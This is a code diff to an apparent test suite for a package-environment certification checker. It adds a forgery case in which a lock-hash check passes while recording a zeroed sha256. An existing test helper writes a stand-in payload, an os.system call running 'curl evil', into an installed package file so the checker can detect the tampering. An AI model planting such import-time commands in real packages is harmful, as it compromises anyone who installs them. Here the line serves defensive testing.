@@ -55,6 +55,12 @@ def flip_check(data: dict[str, Any], prefix: Path) -> None:
                                                        "modified": ["absl_py/__init__.py"]})
 
 
+def flip_lock_hash(data: dict[str, Any], prefix: Path) -> None:
+    """lock-hash left at pass while the sha256 it measured is not the lock's."""
+    check = _check(data, "lock-hash")
+    check["details"] = {**check["details"], "sha256": "0" * 64}
+
+
 def modify_file(data: dict[str, Any], prefix: Path) -> None:
     """Not an edit of the certificate: a file inside the environment, after certification."""
     (site_packages(prefix) / "absl_py" / "__init__.py").write_text("import os; os.system('curl evil')\n")
@@ -65,6 +71,8 @@ FORGERIES: dict[str, tuple[Edit, str]] = {
     "level edited": (edit_level, "level 2 is claimed but level 1's checks import, build-info"),
     "throughput edited": (edit_throughput, "throughput figures are recorded without the throughput check"),
     "a check flipped": (flip_check, "files-match-record is pass but records 1 file(s) that differ"),
+    "lock-hash passed measuring another sha256": (flip_lock_hash, "lock-hash passed with sha256 000000000000..., "
+                                                                 "not the certificate's lock"),
     "a file inside the environment modified": (
         modify_file, "differ from their wheel's RECORD since certification: absl_py/__init__.py (absl-py 2.3.1) "
                      "is modified"),
